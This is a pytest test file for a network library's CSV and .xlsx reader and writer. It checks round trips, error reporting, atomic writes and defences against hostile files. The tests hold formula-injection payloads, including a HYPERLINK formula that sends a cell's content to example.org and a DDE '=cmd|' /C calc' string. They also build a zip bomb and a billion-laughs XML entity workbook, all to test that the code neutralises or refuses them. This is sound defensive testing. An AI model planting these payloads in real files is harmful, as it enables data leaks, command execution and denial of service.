"""Spreadsheets: a folder of CSV files or an .xlsx workbook round-trips a network exactly
(both example sets, and generated networks with awkward text everywhere), in the long and the
wide form of the rights; a hand-made sheet with mistakes gets every problem at once, at its
file, row and column; hostile files are refused quickly; writes are atomic and keep
permissions; cells a spreadsheet would run as formulas are neutralised (CWE-1236)."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import tempfile
import time
import zipfile
from pathlib import Path
from typing import List, Tuple

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings

import coproduction as cp
from coproduction.io import _atomic
from coproduction.io._spreadsheet import read_spreadsheet, write_spreadsheet

import _awkward

openpyxl = pytest.importorskip("openpyxl")

DATA = Path(__file__).resolve().parents[1] / "data" / "spreadsheets"
EXAMPLES = ("twam_partners_2013", "nml_collaboration_types")
TARGETS = ("partnership", "partnership.xlsx")  # a folder of CSV files, a workbook


def problems(path: "str | os.PathLike[str]", **limits: int) -> List[Tuple[str, str, str]]:
    """(where, code, message) of each problem reading ``path`` finds."""
    with pytest.raises(cp.FormatError) as info:
        read_spreadsheet(path, **limits)
    return [(p.pointer, p.code, p.message) for p in info.value.problems]


def places(path: Path) -> List[Tuple[str, str]]:
    """(where, code) of each problem, the path the where starts with left out."""
    found = problems(path)
    for where, _, _ in found:
        assert where.startswith(str(path)), where
    return [(where[len(str(path)):], code) for where, code, _ in found]


def csv_folder(tmp_path: Path, **files: str) -> Path:
    folder = tmp_path / "sheets"
    folder.mkdir()
    for name, text in files.items():
        (folder / f"{name}.csv").write_text(text, encoding="utf-8", newline="")
    return folder


# -- round trips ------------------------------------------------------------------------------

@pytest.mark.parametrize("target", TARGETS)
@pytest.mark.parametrize("rights", ["long", "wide"])
@pytest.mark.parametrize("name", EXAMPLES)
def test_the_examples_round_trip_exactly(tmp_path, name, rights, target):
    net = cp.examples.load(name)
    path = tmp_path / target
    write_spreadsheet(net, path, rights=rights)
    back = read_spreadsheet(path)
    assert back == net
    assert json.loads(back.to_json()) == json.loads(net.to_json())  # the same document


@pytest.mark.parametrize("target", TARGETS)
@pytest.mark.parametrize("rights", ["long", "wide"])
def test_awkward_networks_round_trip_exactly(rights, target):
    @settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(_awkward.networks())
    def round_trip(net: cp.Network) -> None:
        with tempfile.TemporaryDirectory() as scratch:
            path = os.path.join(scratch, target)
            write_spreadsheet(net, path, rights=rights)
            back = read_spreadsheet(path)
            assert back == net, (net.to_json(), back.to_json())

    round_trip()


@pytest.mark.parametrize("target", TARGETS)
def test_text_no_spreadsheet_would_keep_round_trips(tmp_path, target):
    # Characters a workbook's XML cannot hold (NUL, ESC, a carriage return, U+FFFF) and text
    # that looks like the workbook's own escapes; numbers that need 17 digits; an id that
    # looks like a number; an explicit "none" right against one not listed.
    net = cp.Network(metadata={"title": "=x", "ratio": 0.1 + 0.2, "empty": "", "none": None,
                               "list": [1, "a"]})
    net.add_stakeholder("=a", kind="group",
                        label="\x00\x1b\r\n_x000D_ _x005F_\uffff ax005F_b _x0041_",
                        influence=0.1 + 0.2, attributes={"k": "v\x01", "": {}})
    net.add_stakeholder("'b", label="'=1", paid=False)
    net.add_stakeholder("007", label="NA", influence=1e20)
    net.add_relation("=a", "'b", "trusts", weight=5e-324, date="2013")
    net.add_project("p")
    net.add_decision("d", project="p", stage="design", rule="quota", quota=2.5,
                     rights={"=a": "shared", "'b": "shared", "007": "none"},
                     votes={"=a": 2, "'b": 3}, veto=["'b", "=a"])
    for rights in ("long", "wide"):
        path = tmp_path / rights / target
        path.parent.mkdir()
        write_spreadsheet(net, path, rights=rights)
        assert read_spreadsheet(path) == net


def test_metadata_absent_and_empty_stay_apart(tmp_path):
    none, empty = cp.Network(), cp.Network(metadata={})
    assert none != empty
    write_spreadsheet(none, tmp_path / "none")
    write_spreadsheet(empty, tmp_path / "empty")
    assert not (tmp_path / "none" / "metadata.csv").exists()
    assert (tmp_path / "empty" / "metadata.csv").read_bytes() == b"\xef\xbb\xbfkey,value,json\r\n"
    assert read_spreadsheet(tmp_path / "none") == none
    assert read_spreadsheet(tmp_path / "empty") == empty


# -- what the files look like -----------------------------------------------------------------

def test_the_csv_files_are_a_template_in_utf8_with_a_bom(tmp_path):
    net = cp.examples.load("nml_collaboration_types")
    write_spreadsheet(net, tmp_path / "p")
    data = (tmp_path / "p" / "stakeholders.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,label,kind,role,sector,expertise,under_served,paid,"
                           b"convenor,size,influence,attributes\r\n")
    rights = (tmp_path / "p" / "rights.csv").read_text(encoding="utf-8-sig")
    assert rights.splitlines()[0] == "decision,stakeholder,right,votes,veto"
    # pandas reads the files as they are: the BOM is not part of the first column's name.
    frame = pd.read_csv(tmp_path / "p" / "stakeholders.csv")
    assert frame.columns[0] == "id"


def test_the_workbook_opens_in_openpyxl_with_typed_cells(tmp_path):
    net = cp.examples.load("twam_partners_2013")
    write_spreadsheet(net, tmp_path / "p.xlsx")
    book = openpyxl.load_workbook(tmp_path / "p.xlsx")  # the full reader, not read-only
    assert book.sheetnames == ["stakeholders", "relations", "projects", "decisions", "rights",
                               "metadata"]
    sheet = book["stakeholders"]
    assert [c.value for c in sheet[1]][:3] == ["id", "label", "kind"]
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"
    row = {sheet.cell(1, c).value: sheet.cell(3, c) for c in range(1, sheet.max_column + 1)}
    assert row["paid"].data_type == "b" and row["size"].data_type == "n"
    assert row["id"].data_type == "s" and row["id"].number_format == "@"
    # pandas reads it too (through openpyxl).
    frames = pd.read_excel(tmp_path / "p.xlsx", sheet_name=None)
    assert len(frames["relations"]) == net.num_relations


def test_floats_are_written_with_every_digit_they_need(tmp_path):
    # openpyxl's own writer keeps 16 significant digits: 0.30000000000000004 would come back
    # as 0.3. The workbook's XML holds repr of the float.
    net = cp.Network()
    net.add_stakeholder("a", influence=0.1 + 0.2)
    write_spreadsheet(net, tmp_path / "p.xlsx")
    write_spreadsheet(net, tmp_path / "p")
    xml = zipfile.ZipFile(tmp_path / "p.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<v>0.30000000000000004</v>" in xml
    assert "0.30000000000000004" in (tmp_path / "p" / "stakeholders.csv").read_text("utf-8")
    for path in (tmp_path / "p.xlsx", tmp_path / "p"):
        assert read_spreadsheet(path).stakeholders.at["a", "influence"] == 0.1 + 0.2


# -- CWE-1236 ---------------------------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://example.org/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
             "\t=1", "\r=1", "'=1", "'", "'quoted'"]


def test_formula_starters_are_neutralised_in_csv_bytes_and_restored(tmp_path):
    net = cp.Network()
    for i, label in enumerate(DANGEROUS):
        net.add_stakeholder(f"s{i}", label=label)
    net.add_stakeholder("=cmd|' /C calc'!A0")
    write_spreadsheet(net, tmp_path / "p")
    rows = list(csv.reader(io.StringIO(
        (tmp_path / "p" / "stakeholders.csv").read_bytes().decode("utf-8-sig"), newline="")))
    labels = [r[1] for r in rows[1:len(DANGEROUS) + 1]]
    assert labels == ["'" + label for label in DANGEROUS]
    assert rows[-1][0] == "'=cmd|' /C calc'!A0"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert read_spreadsheet(tmp_path / "p") == net


def test_formula_starters_are_text_cells_in_a_workbook(tmp_path):
    net = cp.Network()
    for i, label in enumerate(DANGEROUS):
        net.add_stakeholder(f"s{i}", label=label)
    write_spreadsheet(net, tmp_path / "p.xlsx")
    archive = zipfile.ZipFile(tmp_path / "p.xlsx")
    xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no cell is a formula
    assert '<c r="B2" t="s" s="2">' in xml  # a string cell, formatted as Text
    strings = archive.read("xl/sharedStrings.xml").decode()
    assert '<t xml:space="preserve">\'=HYPERLINK("http:' in strings
    sheet = openpyxl.load_workbook(tmp_path / "p.xlsx")["stakeholders"]
    assert all(sheet.cell(r, 2).data_type == "s" for r in range(2, len(DANGEROUS) + 2))
    assert read_spreadsheet(tmp_path / "p.xlsx") == net


def test_a_leading_apostrophe_typed_by_hand_is_removed(tmp_path):
    # As a spreadsheet does: the apostrophe says "text", it is not part of the value.
    folder = csv_folder(tmp_path, stakeholders="id,label\n'007,'+44 20\n")
    net = read_spreadsheet(folder)
    assert net.stakeholders.index.tolist() == ["007"]
    assert net.stakeholders.at["007", "label"] == "+44 20"


# -- reading cells ----------------------------------------------------------------------------

def test_csv_cells_are_text_converted_by_column_never_guessed(tmp_path):
    folder = csv_folder(
        tmp_path,
        stakeholders="id,kind,label,paid,convenor,size,influence,ward\n"
                     "007,group,NA,False,,4,1e-3,None\n"
                     "1.50,person, ,YES,no,,2,\n")
    net = read_spreadsheet(folder)
    s = net.stakeholders
    assert s.index.tolist() == ["007", "1.50"]  # ids stay as written
    assert s.at["007", "label"] == "NA" and s.at["1.50", "label"] == " "  # text as written
    assert s.at["007", "paid"] is not pd.NA and not s.at["007", "paid"]  # "False": no
    assert pd.isna(s.at["007", "convenor"])  # empty: not given, never "None" or False
    assert s.at["1.50", "paid"] and not s.at["1.50", "convenor"]
    assert s.at["007", "size"] == 4 and s.at["007", "influence"] == 0.001
    assert s.at["007", "attributes"] == {"ward": "None"}  # an extra column keeps its text
    assert s.at["1.50", "attributes"] is None


@pytest.mark.parametrize("column, cell, code, text", [
    ("size", " 4", "format.type", 'must be a whole number, not a string (" 4")'),
    ("size", "four", "format.type", "not a string"),
    ("size", "1.5", "format.value", "must be a whole number, not a number (1.5)"),
    ("influence", "1,5", "format.type", "a point for decimals"),
    ("influence", "NaN", "format.type", "must be a number"),
    ("paid", "yes ", "format.value", "must be true or false"),
    ("paid", "Falsch", "format.value", "must be true or false"),
    ("kind", "Group", "format.value", "is not one of person, group, organisation, object"),
])
def test_a_csv_cell_outside_its_column_is_refused(tmp_path, column, cell, code, text):
    folder = csv_folder(tmp_path, stakeholders=f'id,{column}\nx,"{cell}"\n')
    [(where, got, message)] = problems(folder)
    assert where == f"{folder / 'stakeholders.csv'}, row 2, column B ({column})"
    assert got == code and text in message, message


def test_every_problem_of_a_csv_folder_at_once():
    folder = DATA / "mistakes_csv"
    assert places(folder) == [
        ("/stakeholders.csv, row 1, column F (Convenor)", "format.unknown_field"),
        ("/stakeholders.csv, row 3, column D (paid)", "format.value"),
        ("/stakeholders.csv, row 3, column E (size)", "format.value"),
        ("/stakeholders.csv, row 4 (line 5), column A (id)", "format.missing"),
        ("/stakeholders.csv, row 5 (line 6), column A (id)", "model.duplicate_id"),
        ("/relations.csv, row 3, column D (weight)", "format.type"),
        ("/relations.csv, row 4, column B (target)", "model.unknown_id"),
        ("/decisions.csv, row 2, column G (attributes)", "format.value"),
        ("/rights.csv, row 2, column D (votes)", "format.value"),
        ("/rights.csv, row 3, column E (veto)", "format.value"),
        ("/rights.csv, row 6, column B (stakeholder)", "model.unknown_id"),
        ("/metadata.csv, byte 41 (line 2)", "format.encoding"),
    ]
    messages = [m for _, _, m in problems(folder)]
    assert 'stakeholder "carers": must be true or false' in messages[1]
    assert 'stakeholder "outreach" already exists' in messages[4]
    assert "Python's text of a dict" in messages[7]
    assert 'decision "route": must be a whole number, not a number (1.5)' == messages[8]
    assert 'unknown stakeholder "nhs"' in messages[10]
    assert "Windows-1252" in messages[11] and "0xe9" in messages[11]


def test_every_problem_of_a_workbook_at_once():
    book = DATA / "mistakes.xlsx"
    found = problems(book)
    assert [(w[len(str(book)):], c) for w, c, _ in found] == [
        (", sheet Stakeholders, row 3, column C (label)", "format.type"),
        (", sheet Stakeholders, row 3, column E (size)", "format.type"),
        (", sheet Stakeholders, row 3, column F (influence)", "format.value"),
        (", sheet Stakeholders, row 4, column E (size)", "format.value"),
        (", sheet relations, row 2, column D (date)", "format.type"),
        (", sheet relations, row 3, column E (weight)", "format.value"),
        (", sheet relations, row 4, column E (weight)", "format.value"),
        (", sheet decisions, row 2, column F (votes)", "format.value"),
        (", sheet decisions, row 2, column G (veto)", "model.invalid_value"),
        (", sheet decisions, row 3, column G (veto)", "format.value"),
        (", sheet rights, row 3, column D (7)", "format.value"),
        (", sheet metadata, row 4, column A (key)", "format.duplicate_key"),
    ]
    messages = [m for _, _, m in found]
    assert "Excel stored the cell as a number" in messages[0]
    assert "a number stored as text" in messages[1]
    assert messages[2].startswith("a formula (=2+3): the reader does not compute formulas")
    assert "a date or time (2013-02-14)" in messages[4]
    assert messages[5].startswith("a formula (=A1)")
    assert messages[6] == "an error value (#N/A)"
    assert messages[7] == ('decision "route": must be a whole number, not a number (1.5) '
                           '(for "carers")')
    assert '"nobody" has no right' in messages[8]
    assert '"inform" is not one of' in messages[10]


def test_empty_and_repeated_ids_and_unknown_stakeholders_in_a_workbook(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "stakeholders"
    for row in (["id", "kind"], ["a", "person"], [None, "person"], ["a", "group"]):
        sheet.append(row)
    rights = book.create_sheet("rights")
    for row in (["decision", "stakeholder", "right"], ["d", "a", "decides"],
                ["d", "zz", "informed"]):
        rights.append(row)
    decisions = book.create_sheet("decisions")
    for row in (["id", "project", "stage", "rule"], ["d", "p", "design", "sole"]):
        decisions.append(row)
    book.create_sheet("projects").append(["id"])
    book["projects"].append(["p"])
    book.save(tmp_path / "b.xlsx")
    assert [(w.split(", sheet ")[1], c) for w, c, _ in problems(tmp_path / "b.xlsx")] == [
        ("stakeholders, row 3, column A (id)", "format.missing"),
        ("stakeholders, row 4, column A (id)", "model.duplicate_id"),
        ("rights, row 3, column B (stakeholder)", "model.unknown_id"),
    ]


def test_a_wide_rights_sheet_as_a_notebook_prints_it():
    # rights.csv is net.rights["right"].unstack().to_csv(...): the shape from_frames refuses.
    net = cp.examples.load("nml_collaboration_types")
    back = read_spreadsheet(DATA / "wide_rights_csv")
    pd.testing.assert_series_equal(back.rights["right"], net.rights["right"])
    assert back.stakeholders.equals(net.stakeholders) and back.relations.equals(net.relations)
    # The grid holds rights only: the votes of the one decision with votes are not in it.
    assert back.rights["votes"].isna().all() and net.rights["votes"].notna().any()
    with pytest.raises(cp.FormatError):
        rights = pd.read_csv(DATA / "wide_rights_csv" / "rights.csv")
        cp.from_frames(net.stakeholders, net.relations, net.projects, net.decisions, rights)


def test_wide_rights_take_votes_and_vetoes_from_the_decisions_sheet(tmp_path):
    folder = csv_folder(
        tmp_path,
        stakeholders="id,kind\noutreach,group\nwomen,group\nstaff,group\n",
        projects="id\nfilm\n",
        decisions='id,project,stage,rule,quota,votes,veto\n'
                  'theme,film,design,quota,3,"{""outreach"": 2, ""women"": 2}",'
                  '"[""women"", ""outreach""]"\n'
                  'edit,film,delivery,sole,,,\n',
        rights="decision,outreach,women,staff\n"
               "theme,shared,shared,shared\nedit,decides,involved,\n")
    net = read_spreadsheet(folder)
    theme = json.loads(net.to_json())["decisions"][0]
    assert theme["rule"] == {"kind": "quota", "quota": 3, "votes": {"outreach": 2, "women": 2},
                             "veto": ["women", "outreach"]}  # the veto list keeps its order
    assert theme["rights"] == {"outreach": "shared", "women": "shared", "staff": "shared"}
    assert "staff" not in json.loads(net.to_json())["decisions"][1]["rights"]  # empty: not listed
    # Votes for someone the grid gives no right, and votes and veto beside long rights.
    (folder / "decisions.csv").write_text(
        'id,project,stage,rule,quota,votes,veto\n'
        'theme,film,design,quota,3,"{""outreach"": 2, ""nobody"": 2}",\n'
        'edit,film,delivery,sole,,,\n', encoding="utf-8")
    [(where, code, message)] = problems(folder)
    assert where.endswith("decisions.csv, row 2, column F (votes)")
    assert code == "model.invalid_value"
    assert 'votes for "nobody"' in message
    (folder / "rights.csv").write_text("decision,stakeholder,right\ntheme,outreach,shared\n"
                                       "theme,women,shared\nedit,outreach,decides\n",
                                       encoding="utf-8")
    (folder / "decisions.csv").write_text(
        'id,project,stage,rule,quota,votes,veto\n'
        'theme,film,design,quota,2,"{""outreach"": 2}","[""women""]"\n'
        'edit,film,delivery,sole,,,\n', encoding="utf-8")
    found = problems(folder)
    assert [(w.rsplit("/", 1)[1], c) for w, c, _ in found] == [
        ("decisions.csv, row 1, column F (votes)", "format.unknown_field"),
        ("decisions.csv, row 1, column G (veto)", "format.unknown_field")]
    assert "only beside a wide rights sheet" in found[0][2]


def test_a_sheet_name_in_another_case_is_read_and_a_slip_is_reported(tmp_path):
    folder = csv_folder(tmp_path, Stakeholders="id\na\nb\n",
                        relation="source,target,type\na,b,informs\n")
    [(where, code, message)] = problems(folder)
    assert where == str(folder) and code == "format.unknown_field"
    assert "'relation.csv' is not read: is it the relations sheet?" in message
    (folder / "relation.csv").rename(folder / "Relations.CSV")
    assert read_spreadsheet(folder).num_relations == 1
    (folder / "notes.csv").write_text("anything\n", encoding="utf-8")  # not a sheet: not read
    assert read_spreadsheet(folder).num_relations == 1


def test_a_folder_without_stakeholders_says_so(tmp_path):
    folder = csv_folder(tmp_path, projects="id\np\n")
    assert problems(folder) == [(str(folder), "format.missing",
                                 "there is no stakeholders sheet (a file stakeholders.csv)")]


# -- files that are not what they say ----------------------------------------------------------

def test_text_that_is_not_utf8_is_named_by_byte_and_line(tmp_path):
    folder = tmp_path / "f"
    folder.mkdir()
    (folder / "stakeholders.csv").write_bytes(b"id,label\na,ok\nb,M\xfcnster\n")
    [(where, code, message)] = problems(folder)
    assert where == f"{folder / 'stakeholders.csv'}, byte 18 (line 3)" and code == "format.encoding"
    (folder / "stakeholders.csv").write_bytes("id,label\na,b\n".encode("utf-16"))
    [(where, code, message)] = problems(folder)
    assert "UTF-16" in message
    (folder / "stakeholders.csv").write_bytes(b"\xef\xbb\xbfid,label\na,M\xc3\xbcnster\n")
    assert read_spreadsheet(folder).stakeholders.at["a", "label"] == "Münster"


def test_csv_that_is_not_csv(tmp_path):
    folder = csv_folder(tmp_path, stakeholders='id,label\na,"never closed\nb,x\n')
    [(where, code, message)] = problems(folder)
    assert where.endswith("stakeholders.csv, row 2") and code == "format.syntax"
    assert "a quoted cell is not closed" in message
    (folder / "stakeholders.csv").write_text("id;label\na;b\n", encoding="utf-8")
    [(where, code, message)] = problems(folder)
    assert "separated by semicolons" in message and where.endswith("row 1")


def test_files_that_are_not_workbooks(tmp_path):
    (tmp_path / "text.xlsx").write_text("id,label\n", encoding="utf-8")
    assert problems(tmp_path / "text.xlsx") == [
        (str(tmp_path / "text.xlsx"), "format.syntax",
         "not an .xlsx workbook (it is not a zip archive)")]
    (tmp_path / "old.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    [(_, _, message)] = problems(tmp_path / "old.xlsx")
    assert "Excel 97-2003 (.xls) or password-protected" in message
    with zipfile.ZipFile(tmp_path / "empty.xlsx", "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    [(_, code, message)] = problems(tmp_path / "empty.xlsx")
    assert (code, message) == ("format.syntax", "not a workbook this reader can read: there is "
                                                "no part '[Content_Types].xml' in the archive")


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    # A valid workbook with one more part: 300 MiB of zeros, which deflate to 300 KB. The
    # size the part declares is over the 256 MiB limit, so nothing is unpacked.
    net = cp.Network()
    net.add_stakeholder("a")
    bomb = tmp_path / "bomb.xlsx"
    write_spreadsheet(net, bomb)
    with zipfile.ZipFile(bomb, "a", compresslevel=1) as archive:
        info = zipfile.ZipInfo("xl/media/zeros.bin", date_time=(1980, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as part:
            block = bytes(1 << 20)
            for _ in range(300):
                part.write(block)
    assert bomb.stat().st_size < 2 << 20
    start = time.perf_counter()
    [(where, code, message)] = problems(bomb)
    assert time.perf_counter() - start < 1
    assert where == str(bomb) and code == "format.size"
    assert "unpack to 314" in message and "zip bomb" in message


def test_a_workbook_declaring_entities_is_refused(tmp_path):
    net = cp.Network()
    net.add_stakeholder("a")
    book = tmp_path / "laughs.xlsx"
    write_spreadsheet(net, book)
    parts = {}
    with zipfile.ZipFile(book) as archive:
        for name in archive.namelist():
            parts[name] = archive.read(name)
    parts["xl/worksheets/sheet1.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        + parts["xl/worksheets/sheet1.xml"].split(b"?>", 1)[1].replace(b">a<", b">&lol2;<"))
    with zipfile.ZipFile(book, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    [(where, code, message)] = problems(book)
    assert code == "format.syntax" and "document type" in message


def test_stray_cells_far_to_the_right_are_read_quickly(tmp_path):
    # openpyxl's read-only rows pad each row to its last cell: 3,000 rows with a cell in
    # column XFD would be 49 million cells. The reader takes the cells the file holds.
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "stakeholders"
    sheet["A1"] = "id"
    for row in range(2, 3002):
        sheet.cell(row, 1, f"s{row}")
        sheet.cell(row, 16384, "x")
    book.save(tmp_path / "wide.xlsx")
    start = time.perf_counter()
    found = problems(tmp_path / "wide.xlsx")
    assert time.perf_counter() - start < 5
    assert [(w.split(", sheet ")[1], c) for w, c, _ in found] == [
        ("stakeholders, row 2, column XFD", "format.value")]
    assert "which has no name in row 1" in found[0][2]


def test_a_workbook_whose_dimension_is_wrong_is_read_whole(tmp_path):
    # The <dimension> element is the writer's claim of the cells in use; openpyxl's
    # read-only rows drop what lies outside it. The reader does not trust it.
    net = cp.examples.load("nml_collaboration_types")
    write_spreadsheet(net, tmp_path / "p.xlsx")
    parts = {}
    with zipfile.ZipFile(tmp_path / "p.xlsx") as archive:
        for name in archive.namelist():
            parts[name] = archive.read(name)
    for name in parts:
        if name.startswith("xl/worksheets/"):
            xml = parts[name].decode()
            start = xml.index('<dimension ref="')
            end = xml.index('"/>', start)
            parts[name] = (xml[:start] + '<dimension ref="A1:A1' + xml[end:]).encode()
    with zipfile.ZipFile(tmp_path / "p.xlsx", "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert read_spreadsheet(tmp_path / "p.xlsx") == net


def test_limits_on_bytes_and_cells(tmp_path):
    rows = "".join(f"s{i},person\n" for i in range(500))
    folder = csv_folder(tmp_path, stakeholders="id,kind\n" + rows)
    [(where, code, message)] = problems(folder, max_cells=100)
    assert code == "format.size" and "more than 100 cells (max_cells)" in message
    [(where, code, message)] = problems(folder, max_bytes=1000)
    assert code == "format.size" and "max_bytes" in message
    assert read_spreadsheet(folder).num_stakeholders == 500
    write_spreadsheet(read_spreadsheet(folder), tmp_path / "p.xlsx")
    [(where, code, message)] = problems(tmp_path / "p.xlsx", max_cells=100)
    assert code == "format.size" and "cells and shared strings" in message  # before openpyxl
    [(where, code, message)] = problems(tmp_path / "p.xlsx", max_bytes=20000)
    assert code == "format.size" and "unpack to" in message  # 12 KB packed, more unpacked
    with pytest.raises(cp.InputError):
        read_spreadsheet(folder, max_cells=-1)


def test_arguments(tmp_path):
    net = cp.Network()
    with pytest.raises(cp.InputError, match="rights"):
        write_spreadsheet(net, tmp_path / "p", rights="tall")
    with pytest.raises(cp.InputError, match="net"):
        write_spreadsheet("net", tmp_path / "p")  # type: ignore[arg-type]
    for name in ("p.csv", "p.xls", "p.ods"):
        with pytest.raises(cp.InputError, match="path"):
            write_spreadsheet(net, tmp_path / name)
    (tmp_path / "one.csv").write_text("id\na\n", encoding="utf-8")
    with pytest.raises(cp.InputError, match="give its folder"):
        read_spreadsheet(tmp_path / "one.csv")
    with pytest.raises(FileNotFoundError):
        read_spreadsheet(tmp_path / "missing")
    with pytest.raises(OSError):
        write_spreadsheet(net, tmp_path / "no" / "such" / "folder")


def test_what_a_workbook_cannot_hold_is_refused_before_writing(tmp_path):
    net = cp.Network()
    net.add_stakeholder("a", label="x" * 40000)
    with pytest.raises(cp.LimitError) as info:
        write_spreadsheet(net, tmp_path / "p.xlsx")
    assert info.value.limit == 32767 and "stakeholders, row 2, column B (label)" in str(info.value)
    assert not (tmp_path / "p.xlsx").exists()
    write_spreadsheet(net, tmp_path / "p")  # a CSV cell holds it
    assert read_spreadsheet(tmp_path / "p") == net
    big = cp.Network()
    big.add_stakeholder("a", kind="group", size=2 ** 60)
    with pytest.raises(cp.LimitError, match="2\\*\\*53"):
        write_spreadsheet(big, tmp_path / "big.xlsx")
    write_spreadsheet(big, tmp_path / "big")
    assert read_spreadsheet(tmp_path / "big") == big


# -- the pandas pitfall -----------------------------------------------------------------------

def test_attributes_come_back_as_dicts_not_python_text(tmp_path):
    net = cp.examples.load("twam_partners_2013")
    write_spreadsheet(net, tmp_path / "p")
    back = read_spreadsheet(tmp_path / "p")
    attributes = back.relations["attributes"].dropna()
    assert len(attributes) and all(isinstance(a, dict) for a in attributes)
    # Each attributes cell is JSON text, which any tool reads.
    frame = pd.read_csv(tmp_path / "p" / "relations.csv", dtype=str, keep_default_na=False)
    first = next(cell for cell in frame["attributes"] if cell)
    assert json.loads(first) == attributes.iloc[0]
    # DataFrame.to_csv writes the dict's Python text, which is refused with the way out.
    net.relations.to_csv(tmp_path / "p" / "relations.csv", index=False)
    found = problems(tmp_path / "p")
    assert found and all(where.split(", column ")[1] == "I (attributes)" for where, _, _ in found)
    assert "DataFrame.to_csv" in found[0][2]


# -- atomic writes ----------------------------------------------------------------------------

def test_a_workbook_keeps_its_permissions_and_a_failure_leaves_nothing(tmp_path, monkeypatch):
    net = cp.examples.load("nml_collaboration_types")
    book = tmp_path / "p.xlsx"
    book.write_bytes(b"old")
    book.chmod(0o600)
    write_spreadsheet(net, book)
    assert stat.S_IMODE(book.stat().st_mode) == 0o600
    assert read_spreadsheet(book) == net
    before = book.read_bytes()

    def broken(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(_atomic.os, "fsync", broken)
    with pytest.raises(OSError, match="No space"):
        write_spreadsheet(cp.examples.load("twam_partners_2013"), book)
    assert book.read_bytes() == before and sorted(p.name for p in tmp_path.iterdir()) == ["p.xlsx"]


def test_a_folder_is_replaced_whole_and_keeps_its_permissions(tmp_path, monkeypatch):
    folder = tmp_path / "p"
    write_spreadsheet(cp.examples.load("twam_partners_2013"), folder)
    folder.chmod(0o700)
    (folder / "rights.csv").chmod(0o600)
    net = cp.examples.load("nml_collaboration_types")
    net.metadata = None
    write_spreadsheet(net, folder, rights="wide")
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / "rights.csv").stat().st_mode) == 0o600
    assert not (folder / "metadata.csv").exists()  # the old one went with the old folder
    assert read_spreadsheet(folder) == net
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p"]
    # A failure half-way leaves the old folder as it was and nothing beside it.
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    calls = []

    def broken(fd: int) -> None:
        calls.append(fd)
        if len(calls) == 3:
            raise OSError(5, "Input/output error")

    monkeypatch.setattr(_atomic.os, "fsync", broken)
    with pytest.raises(OSError, match="Input/output"):
        write_spreadsheet(cp.examples.load("twam_partners_2013"), folder)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p"]


def test_a_folder_named_with_a_trailing_slash_is_that_folder(tmp_path):
    net = cp.Network()
    net.add_stakeholder("a")
    for _ in range(2):  # made, then replaced
        write_spreadsheet(net, f"{tmp_path / 'p'}{os.sep}")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p"]
    assert read_spreadsheet(f"{tmp_path / 'p'}{os.sep}") == net


def test_a_folder_holding_other_files_is_not_replaced(tmp_path):
    folder = tmp_path / "p"
    folder.mkdir()
    (folder / "notes.docx").write_bytes(b"the researcher's notes")
    net = cp.Network()
    net.add_stakeholder("a")
    with pytest.raises(OSError, match="notes.docx"):
        write_spreadsheet(net, folder)
    assert [p.name for p in folder.iterdir()] == ["notes.docx"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p"]


def test_a_symbolic_link_is_written_through(tmp_path):
    net = cp.Network()
    net.add_stakeholder("a")
    (tmp_path / "real.xlsx").write_bytes(b"old")
    (tmp_path / "link.xlsx").symlink_to(tmp_path / "real.xlsx")
    write_spreadsheet(net, tmp_path / "link.xlsx")
    assert (tmp_path / "link.xlsx").is_symlink()
    assert read_spreadsheet(tmp_path / "real.xlsx") == net
    (tmp_path / "nothing.xlsx").symlink_to(tmp_path / "missing.xlsx")
    with pytest.raises(OSError):
        write_spreadsheet(net, tmp_path / "nothing.xlsx")
    (tmp_path / "dir.xlsx").mkdir()
    with pytest.raises(OSError):
        write_spreadsheet(net, tmp_path / "dir.xlsx")
    shutil.rmtree(tmp_path / "dir.xlsx")
